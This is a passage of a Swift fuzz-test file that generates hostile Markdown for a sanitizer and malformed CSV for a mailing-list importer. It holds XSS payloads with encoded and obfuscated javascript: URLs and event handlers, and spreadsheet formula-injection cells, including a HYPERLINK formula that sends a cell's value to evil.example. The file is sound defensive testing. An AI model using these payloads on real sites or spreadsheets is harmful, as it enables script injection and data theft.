        switch Draw.int(0...2, &rng) {
        case 0: return Draw.pick(unicodeSamples, &rng)
        case 1: return Draw.pick(controls, &rng)
        default: return Draw.text(&rng, count: 1...16)
        }
    }

    /// A URL that should never survive as a link target, obfuscated the ways filters are evaded;
    /// `lineSafe` leaves out line breaks and angle brackets.
    static func hostileURL(_ rng: inout RNG, lineSafe: Bool) -> String {
        if Draw.chance(0.2, &rng) { return Draw.pick(oddURLs, &rng) }
        var scheme = ""
        for character in Draw.pick(schemes, &rng) {
            var piece = String(character)
            if Draw.chance(0.3, &rng) { piece = piece.uppercased() }
            if Draw.chance(0.08, &rng), let ascii = character.asciiValue {
                piece = Draw.pick(
                    ["&#\(ascii);", "&#x\(String(ascii, radix: 16));", "&#000\(ascii)", "%\(String(ascii, radix: 16))"], &rng)
            }
            scheme += piece
            if Draw.chance(0.05, &rng) { scheme += Draw.pick(lineSafe ? inSchemeNoiseLineSafe : inSchemeNoise, &rng) }
        }
        let colon = Draw.chance(0.8, &rng) ? ":" : Draw.pick(["&#58;", "&#x3A;", "&colon;", "%3A", "&#0058", ":"], &rng)
        let prefix = Draw.chance(0.8, &rng) ? "" : Draw.pick([" ", "\u{1}", "\u{FEFF}", "\u{0}", "&#32;", "\t", "%20"], &rng)
        return prefix + scheme + colon + Draw.pick(lineSafe ? afterColonLineSafe : afterColon, &rng)
    }

    static func hostileLink(_ rng: inout RNG, text: String) -> String {
        let url = hostileURL(&rng, lineSafe: false)
        let number = Draw.int(0...9, &rng)
        let label = "r\(number)"
        switch Draw.int(0...10, &rng) {
        case 0: return "[\(text)](\(url))"
        case 1: return "[\(text)](<\(url)>)"
        case 2: return "[\(text)](\(url) \"title\")"
        case 3: return "![\(text)](\(url))"
        case 4: return "<\(url)>"
        case 5: return "[\(text)][\(label)]\n\n[\(label)]: \(url)\n"
        case 6: return "[\(label)]\n\n[\(label)]: <\(url)>\n"
        case 7: return "<a href=\"\(url)\">\(text)</a>"
        case 8: return "<img src=\"\(url)\" alt=\"\(text)\">"
        case 9: return "[\(text)]( \(url) )"
        default: return "![\(text)][\(label)]\n\n[\(label)]: \(url) 'title'\n"
        }
    }

    static func rawTag(_ rng: inout RNG) -> String {
        var name = Draw.pick(tagNames, &rng)
        if Draw.chance(0.3, &rng) { name = name.uppercased() }
        var tag = "<" + name
        for _ in 0..<Draw.int(0...3, &rng) {
            let event = Draw.pick(eventNames, &rng)
            switch Draw.int(0...6, &rng) {
            case 0: tag += " \(event)=alert(1)"
            case 1: tag += " \(event)=\"alert(1)\""
            case 2:
                let url = hostileURL(&rng, lineSafe: false)
                tag += " src=\"\(url)\""
            case 3:
                let url = hostileURL(&rng, lineSafe: true)
                tag += " href=\(url)"
            case 4: tag += " style=\"background:url(javascript:alert(1))\""
            case 5: tag += "/\(event)='alert(1)'"
            default:
                tag += Draw.pick(
                    [" x", " srcdoc=\"<script>alert(1)</script>\"", "\n\(event)=alert(1)", " \(event) = alert(1)", "\t\(event)=alert`1`"],
                    &rng)
            }
        }
        switch Draw.int(0...6, &rng) {
        case 0: tag += ">"
        case 1: tag += " />"
        case 2: break
        case 3: tag += ">alert(1)</\(name)>"
        case 4:
            let text = shortText(&rng)
            tag += ">" + text + "</\(name)>"
        case 5: tag += "//"
        default: tag += ">\n"
        }
        return tag
    }

    static func emphasis(around text: String, _ rng: inout RNG) -> String {
        var open = ""
        var close = ""
        for _ in 0..<Draw.int(1...30, &rng) {
            let delimiter = Draw.pick(["*", "_", "**", "__", "~~", "***"], &rng)
            open += delimiter
            close = delimiter + close
        }
        return open + text + (Draw.chance(0.8, &rng) ? close : "")
    }

    static func containers(_ rng: inout RNG, depth: ClosedRange<Int>) -> String {
        var prefix = ""
        for _ in 0..<Draw.int(depth, &rng) { prefix += Draw.pick(["> ", "- ", "1. ", "* ", "+ ", ">"], &rng) }
        return prefix
    }

    static func brackets(_ rng: inout RNG) -> String {
        let depth = Draw.int(1...40, &rng)
        let opener = Draw.pick(["[", "!["], &rng)
        let url = hostileURL(&rng, lineSafe: false)
        let text = shortText(&rng)
        return String(repeating: opener, count: depth) + text + "](" + url + ")" + String(repeating: "]", count: Draw.int(0...depth, &rng))
    }

    static func backticks(_ rng: inout RNG) -> String {
        let text = Draw.chance(0.5, &rng) ? rawTag(&rng) : shortText(&rng)
        if Draw.chance(0.3, &rng) {
            let fence = Draw.pick(["```", "~~~", "````"], &rng)
            let info = Draw.pick(["", "html", "javascript:alert(1)", "<script>", "\" onclick=\"alert(1)"], &rng)
            return fence + info + "\n" + text + (Draw.chance(0.7, &rng) ? "\n" + fence : "")
        }
        return String(repeating: "`", count: Draw.int(1...6, &rng)) + text + String(repeating: "`", count: Draw.int(0...6, &rng))
    }

    static func table(_ rng: inout RNG) -> String {
        let columns = Draw.int(1...6, &rng)
        var lines: [String] = []
        for row in 0..<Draw.int(2...6, &rng) {
            var cells: [String] = []
            for _ in 0..<columns {
                if row == 1 {
                    cells.append(Draw.pick([":---", "---:", ":---:", "---", "-"], &rng))
                } else {
                    switch Draw.int(0...3, &rng) {
                    case 0: cells.append(rawTag(&rng))
                    case 1:
                        let text = shortText(&rng)
                        cells.append(hostileLink(&rng, text: text))
                    case 2: cells.append(Draw.pick(MarkdownSafetyTests.payloads, &rng))
                    default: cells.append(shortText(&rng))
                    }
                }
            }
            lines.append("| " + cells.joined(separator: " | ") + " |")
        }
        return lines.joined(separator: "\n") + "\n"
    }

    static func longLine(_ rng: inout RNG) -> String {
        let unit = Draw.pick(["a", "word ", "*", "_", "[", "<", "`", "&#", "\\", "<!--", "![", "www.", "|", "中", "e\u{301}", "> "], &rng)
        return String(repeating: unit, count: Draw.int(1_000...4_000, &rng))
    }

    // MARK: Documents whose plain words must survive

    static func survivalDocument(_ rng: inout RNG) -> SurvivalCase {
        var words: [String] = []
        var blocks: [String] = []
        for _ in 0..<Draw.int(1...10, &rng) { blocks.append(survivalBlock(&rng, words: &words)) }
        return SurvivalCase(markdown: blocks.joined(separator: "\n\n"), words: words)
    }

    static func newWord(_ rng: inout RNG, _ words: inout [String]) -> String {
        let fresh = word(&rng)
        words.append(fresh)
        return fresh
    }

    /// One line of inline content that starts with a plain word.
    static func survivalLine(_ rng: inout RNG, _ words: inout [String], items: ClosedRange<Int>) -> String {
        var line = newWord(&rng, &words)
        for _ in 0..<Draw.int(items, &rng) { line += " " + survivalItem(&rng, &words) }
        return line
    }

    static func survivalItem(_ rng: inout RNG, _ words: inout [String]) -> String {
        switch Draw.weighted([14, 12, 14, 8, 6, 5, 6, 5, 4, 4, 4, 6], &rng) {
        case 0: return newWord(&rng, &words)
        case 1: return Draw.pick(completeTags, &rng)
        case 2:
            let text = newWord(&rng, &words)
            let url = hostileURL(&rng, lineSafe: true)
            switch Draw.int(0...4, &rng) {
            case 0: return "[\(text)](\(url))"
            case 1: return "[\(text)](<\(url)>)"
            case 2: return "[\(text)](\(url) \"t\")"
            case 3: return "![\(text)](\(url))"
            default: return "<a href=\"\(url)\">\(text)</a>"
            }
        case 3:
            let text = newWord(&rng, &words)
            var open = ""
            var close = ""
            for _ in 0..<Draw.int(1...12, &rng) {
                let delimiter = Draw.pick(["*", "_", "**", "__", "~~", "***"], &rng)
                open += delimiter
                close = delimiter + close
            }
            return open + text + close
        case 4:
            let text = newWord(&rng, &words)
            return Draw.pick(["`\(text)`", "``\(text)``", "` \(text) `", "``\(text) ` x``"], &rng)
        case 5: return Draw.pick(entities, &rng)
        case 6: return Draw.pick(unicodeSamples, &rng)
        case 7: return Draw.pick(controlsLineSafe, &rng)
        case 8: return Draw.pick(completeAutolinks, &rng)
        case 9:
            let text = newWord(&rng, &words)
            return Draw.pick(["\\<script>\(text)\\</script>", "\\[\(text)\\](javascript:alert(1))", "\\*\(text)\\*"], &rng)
        case 10:
            var text = newWord(&rng, &words)
            for _ in 0..<Draw.int(1...6, &rng) { text = "[" + text + "]" }
            let url = hostileURL(&rng, lineSafe: true)
            return text + "(" + url + ")"
        default:
            let text = newWord(&rng, &words)
            return Draw.pick(["[\(text)][evil]", "![\(text)][pic]", "[\(text)][vb]", "[\(text)][]", "[\(text)]"], &rng)
        }
    }

    static func survivalBlock(_ rng: inout RNG, words: inout [String]) -> String {
        switch Draw.weighted([30, 8, 12, 8, 8, 8, 4, 5, 5, 3], &rng) {
        case 0: return survivalLine(&rng, &words, items: 0...12)
        case 1: return String(repeating: "#", count: Draw.int(1...6, &rng)) + " " + survivalLine(&rng, &words, items: 0...8)
        case 2: return containers(&rng, depth: 1...20) + survivalLine(&rng, &words, items: 0...8)
        case 3:
            let columns = Draw.int(1...5, &rng)
            var lines: [String] = []
            for row in 0..<Draw.int(2...6, &rng) {
                var cells: [String] = []
                for _ in 0..<columns {
                    cells.append(
                        row == 1 ? Draw.pick([":---", "---:", ":---:", "---", "-"], &rng) : survivalLine(&rng, &words, items: 0...2))
                }
                lines.append("| " + cells.joined(separator: " | ") + " |")
            }
            return lines.joined(separator: "\n")
        case 4:
            let fence = Draw.pick(["```", "~~~", "````"], &rng)
            var lines = [fence + Draw.pick(["", "html", "javascript:alert(1)"], &rng)]
            for _ in 0..<Draw.int(1...4, &rng) {
                var line = newWord(&rng, &words)
                for _ in 0..<Draw.int(0...6, &rng) {
                    line += " " + Draw.pick(completeTags + entities + unicodeSamples + completeAutolinks, &rng)
                }
                lines.append(line)
            }
            lines.append(fence)
            return lines.joined(separator: "\n")
        case 5: return Draw.pick(closedHTMLBlocks, &rng)
        case 6: return definitions
        case 7: return survivalLine(&rng, &words, items: 0...6) + "\n" + Draw.pick(["===", "---"], &rng)
        case 8: return "    " + survivalLine(&rng, &words, items: 0...6)
        default: return survivalLine(&rng, &words, items: 50...300)
        }
    }
}

// MARK: - CSV generators

/// A generated or corpus CSV file, with the line of the first byte that is not UTF-8 when the
/// generator put one in.
struct CSVCase: Sendable, CustomTestStringConvertible {
    let data: Data
    let badLine: Int?
    var testDescription: String {
        String(decoding: data, as: UTF8.self).debugDescription + (badLine.map { " (not UTF-8 from line \($0))" } ?? "")
    }
}

/// Rows of cells (at least two per row, so no row reads as an empty line) and the line ending
/// written after each.
struct RowsCase: Sendable, CustomTestStringConvertible {
    let rows: [[String]]
    let endings: [String]
    var testDescription: String { rows.debugDescription + " with line endings " + endings.debugDescription }
}

enum CSVFuzz {
    typealias RNG = Draw.RNG

    static let files = Generator<CSVCase, Shrink.None<CSVCase>> { rng in CSVFuzz.makeFile(&rng) }
    static let rowSets = Generator<RowsCase, Shrink.None<RowsCase>> { rng in CSVFuzz.makeRows(&rng) }

    static let users = ["alice", "bob", "o'brien", "first.last", "x+tag", "=sum", "-minus", "+plus", "用户", "δοκιμή", "zoë", "a_b", "UPPER"]
    static let domains = [
        "example.org", "EXAMPLE.ORG", "sub.example.co.uk", "例子.广告", "bücher.example", "xn--bcher-kva.example", "παράδειγμα.δοκιμή",
    ]
    static let invalidEmails: [String] = [
        "", "not-an-address", "a@b", "@example.org", "a@", "a@@example.org", "a b@example.org", "a@-example.org", "a@example..org",
        ".a@example.org", "a.@example.org", "a@exa_mple.org", "<a@example.org>", "\"a\"@example.org", "a@example.org\n",
        String(repeating: "l", count: 65) + "@example.org", "a@" + String(repeating: "b", count: 64) + ".org",
        String(repeating: "x", count: 300) + "@example.org", "a\u{0}b@example.org", "a\u{7}b@example.org", "a\u{1B}b@example.org",
        "a\u{1}b@example.org", "a\u{7F}b@example.org", "a \u{301}b@example.org", "a<\u{301}b@example.org", "a\"\u{301}b@example.org",
        "a@\u{301}b@example.org", "a,\u{301}b@example.org", "a\u{202E}b@example.org", "a\u{A0}b@example.org", "a@ex\u{301}ample.org",
        "a@example.org,b@example.org", "a@example.org;", "mailto:a@example.org",
    ]
    static let formulaCells = [
        "=1+1", "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)", "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")",
        "'=already", "'+x", "=\u{301}1+1", "-\u{301}2", "\t=1+1", "\r=1+1", " =1+1", "x\n=1+1", "x\r\n=1+1", "x\r=1+1",
        "=1+1@example.org", "-x@example.org",
    ]
    static let names = [
        "", "Alice", "Carol, the \"first\"", "O'Brien", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+1",
        "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", " =1+1", "line\nbreak", "cr\rreturn", "crlf\r\nbreak", "nul\u{0}byte", "bell\u{7}",
        "esc\u{1B}[31m", "中文名字", "محمد", "\u{202E}evil", "e\u{301}\u{302}", "'quoted", "\"", "\"\"", ",", ";", "\u{FEFF}bom",
        "=\u{301}cmd|' /C calc'!A0", "a\"\u{301}b", ",\u{301}x", "\u{2028}separator", "\u{85}next",
    ]
    static let nastyCells = [
        "a,b", "\"", "\"\"", "a\"b", "\"quoted\"", "line\nbreak", "cr\rreturn", "crlf\r\nbreak", "\n", "\r", "\r\n", ",", " , ",
        "trailing ", " leading", "\u{0}", "\u{FEFF}", "a\u{301}", "\"\u{301}", ",\u{301}", "\n\u{301}", "a\"\u{301}b", "\r\n\r\n",
    ]
    static let languages = ["", "en", "zh", "both", "EN", " zh ", "fr", "english", "=1+1", "zh\n", "\u{0}"]
    static let lists = [
        "", "newsletter", "focal-points", "newsletter focal-points", "newsletter;focal-points", "events", "nosuchlist", "NEWSLETTER",
        "=1+1",
        "newsletter  ;; ",
    ]
    static let statuses = [
        "", "pending", "confirmed", "unsubscribed", "bounced", "complained", "CONFIRMED", "deleted", "=1+1", " pending ",
    ]
    static let invalidSequences: [[UInt8]] = [[0xFF], [0xFE], [0x80], [0xC3], [0xE9], [0xC0, 0xAF], [0xF8, 0x88, 0x80, 0x80, 0x80]]

    /// A field between quotes, each quote doubled (by scalar: a quote followed by a combining mark
    /// is still a quote to a CSV reader).
    static func quoted(_ value: String) -> String {
        var out = "\""
        for scalar in value.unicodeScalars {
            if scalar == "\"" { out.unicodeScalars.append("\"") }
            out.unicodeScalars.append(scalar)
        }
        out.unicodeScalars.append("\"")
        return out
    }

    static func scalars(_ fields: [String]) -> [[Unicode.Scalar]] {
        fields.map { Array($0.unicodeScalars) }
    }

    /// CSV without quotes, read the simple way: lines split at LF, CR dropped, fields split at
    /// commas, empty lines skipped; each record with its line.
    static func splitWithoutQuotes(_ text: String) -> [(line: Int, fields: [String])] {
        var records: [(line: Int, fields: [String])] = []
        var line = 1
        for segment in text.unicodeScalars.split(separator: "\n", omittingEmptySubsequences: false) {
            var fields = [""]
            for scalar in segment where scalar != "\r" {
                if scalar == "," {
                    fields.append("")
                } else {
                    fields[fields.count - 1].unicodeScalars.append(scalar)
                }
            }
            if fields != [""] { records.append((line: line, fields: fields)) }
            line += 1
        }
        return records
    }

    static func lineEnding(_ style: Int, _ rng: inout RNG) -> String {
        switch style {
        case 0: return "\n"
        case 1: return "\r\n"
        case 2: return "\r"
        default: return Draw.pick(["\n", "\r\n", "\r", "\n\n", "\r\n\r\n"], &rng)
        }
    }

    /// The columns of a header: mostly the importer's, shuffled; now and then one unknown or none
    /// for addresses.
    static func header(_ rng: inout RNG) -> [String] {
        var columns = ["email"]
        for name in ["name", "language", "lists", "status"] {
            if Draw.chance(0.6, &rng) { columns.append(name) }
        }
        columns.shuffle(using: &rng)
        switch Draw.int(0...19, &rng) {
        case 0: columns.removeAll { $0 == "email" }
        case 1:
            let unknown = Draw.pick(["phone", "e-mail", "mail", "", "email;name", "=cmd|' /C calc'!A0"], &rng)
            columns.insert(unknown, at: Draw.int(0...columns.count, &rng))
        default: break
        }
        return columns
    }

    static func emailValue(_ rng: inout RNG, pool: inout [String]) -> String {
        var email: String
        switch Draw.weighted([55, 15, 20, 5, 5], &rng) {
        case 0:
            email = Draw.pick(users, &rng) + String(Draw.int(0...40, &rng)) + "@" + Draw.pick(domains, &rng)
            if Draw.chance(0.15, &rng) { email = email.uppercased() }
        case 1:
            email = pool.isEmpty ? "first@example.org" : Draw.pick(pool, &rng)
            if Draw.chance(0.3, &rng) { email = email.uppercased() }
        case 2: email = Draw.pick(invalidEmails, &rng)
        case 3: email = Draw.pick(formulaCells, &rng)
        default: email = Draw.text(&rng, count: 1...20)
        }
        if Draw.chance(0.08, &rng) {
            let padding = Draw.pick([" ", "\t", "\u{A0}", "  ", "\u{3000}"], &rng)
            email = padding + email + padding
        }
        pool.append(email)
        return email
    }

    static func nameValue(_ rng: inout RNG) -> String {
        switch Draw.weighted([70, 15, 5, 8, 2], &rng) {
        case 0: return Draw.pick(names, &rng)
        case 1: return Draw.text(&rng, count: 1...30)
        case 2: return String(repeating: "n", count: Draw.int(118...124, &rng))
        case 3: return Draw.pick(MarkdownFuzz.unicodeSamples, &rng)
        default:
            let unit = Draw.pick(["H", "名", "é", "\"", ",", "=", "e\u{301}"], &rng)
            return String(repeating: unit, count: Draw.int(5_000...60_000, &rng))
        }
    }

    static func anyCell(_ rng: inout RNG) -> String {
        switch Draw.weighted([10, 20, 15, 20, 15, 10, 5, 5], &rng) {
        case 0: return ""
        case 1: return Draw.pick(names, &rng)
        case 2: return Draw.pick(formulaCells, &rng)
        case 3: return Draw.pick(nastyCells, &rng)
        case 4: return Draw.text(&rng, count: 1...24)
        case 5: return Draw.pick(MarkdownFuzz.unicodeSamples, &rng)
        case 6: return Draw.pick(MarkdownFuzz.controls, &rng)
        default:
            let unit = Draw.pick(["x", "\"", ",", "\n", "é", "=", "\r\n"], &rng)
            return String(repeating: unit, count: Draw.int(50...2_000, &rng))
        }
    }

    static func cellValue(for column: String, _ rng: inout RNG, emails: inout [String]) -> String {
        switch column {
        case "email": return emailValue(&rng, pool: &emails)
        case "name": return nameValue(&rng)
        case "language": return Draw.pick(languages, &rng)
        case "lists": return Draw.pick(lists, &rng)
        case "status": return Draw.pick(statuses, &rng)
        default: return anyCell(&rng)
        }
    }

    /// A value as a cell: mostly quoted where it must be, sometimes always quoted, bare when it
    /// should not be, with an unbalanced or stray quote, or padded outside its quotes.
    static func encode(_ value: String, separator: String, _ rng: inout RNG) -> String {
        let special = Set("\"\r\n".unicodeScalars).union(separator.unicodeScalars)
        let needsQuotes = value.unicodeScalars.contains { special.contains($0) }
        switch Draw.weighted([60, 15, 10, 5, 5, 5], &rng) {
        case 0: return needsQuotes ? quoted(value) : value
        case 1: return quoted(value)
        case 2: return value
        case 3: return "\"" + value
        case 4: return Draw.chance(0.5, &rng) ? quoted(value) + "x" : value + "\"x"
        default: return " " + quoted(value) + " "
        }
    }

    static func makeFile(_ rng: inout RNG) -> CSVCase {
        var text = Draw.chance(0.12, &rng) ? "\u{FEFF}" : ""
        if Draw.chance(0.03, &rng) { return finish(text, &rng) }
        let columns = header(&rng)
        let separator = Draw.chance(0.92, &rng) ? "," : Draw.pick([";", "\t", "|", ", "], &rng)
        let style = Draw.weighted([45, 45, 4, 6], &rng)
        var headerCells: [String] = []
        for column in columns {
            var cell = column
            if Draw.chance(0.2, &rng) { cell = cell.uppercased() }
            if Draw.chance(0.1, &rng) { cell = " " + cell + " " }
            if Draw.chance(0.1, &rng) { cell = quoted(cell) }
            headerCells.append(cell)
        }
        text += headerCells.joined(separator: separator) + lineEnding(style, &rng)
        var emails: [String] = []
        var rows: [String] = []
        let rowCount = Draw.chance(0.1, &rng) ? Draw.int(20...40, &rng) : Draw.int(0...12, &rng)
        for _ in 0..<rowCount {
            if !rows.isEmpty, Draw.chance(0.08, &rng) {
                rows.append(Draw.pick(rows, &rng))
                continue
            }
            if Draw.chance(0.04, &rng) {
                rows.append(lineEnding(style, &rng))
                continue
            }
            var cells: [String] = []
            for column in columns {
                let value = cellValue(for: column, &rng, emails: &emails)
                cells.append(encode(value, separator: separator, &rng))
            }
            if !cells.isEmpty, Draw.chance(0.04, &rng) { cells.removeLast() }
            if Draw.chance(0.04, &rng) {
                let extra = anyCell(&rng)
                cells.append(encode(extra, separator: separator, &rng))
            }
            rows.append(cells.joined(separator: separator) + lineEnding(style, &rng))
        }
        text += rows.joined()
        if Draw.chance(0.15, &rng) {
            while let last = text.unicodeScalars.last, last == "\n" || last == "\r" { text.unicodeScalars.removeLast() }
        }
        return finish(text, &rng)
    }

    /// The file's bytes, now and then with bytes that are not UTF-8 at the end of one line.
    static func finish(_ text: String, _ rng: inout RNG) -> CSVCase {
        var bytes = Array(text.utf8)
        guard Draw.chance(0.08, &rng) else { return CSVCase(data: Data(bytes), badLine: nil) }
        var lineEnds: [Int] = []
        for (index, byte) in bytes.enumerated() where byte == 10 { lineEnds.append(index) }
        lineEnds.append(bytes.count)
        let line = Draw.int(0...(lineEnds.count - 1), &rng)
        bytes.insert(contentsOf: Draw.pick(invalidSequences, &rng), at: lineEnds[line])
        return CSVCase(data: Data(bytes), badLine: line + 1)
    }

    static func makeRows(_ rng: inout RNG) -> RowsCase {
        var rows: [[String]] = []
        var endings: [String] = []
        for _ in 0..<Draw.int(1...8, &rng) {
            var row: [String] = []
            for _ in 0..<Draw.int(2...6, &rng) { row.append(anyCell(&rng)) }
            rows.append(row)
            endings.append(Draw.pick(["\n", "\r\n"], &rng))
        }
        if Draw.chance(0.2, &rng) { endings[endings.count - 1] = "" }
        return RowsCase(rows: rows, endings: endings)
    }
}
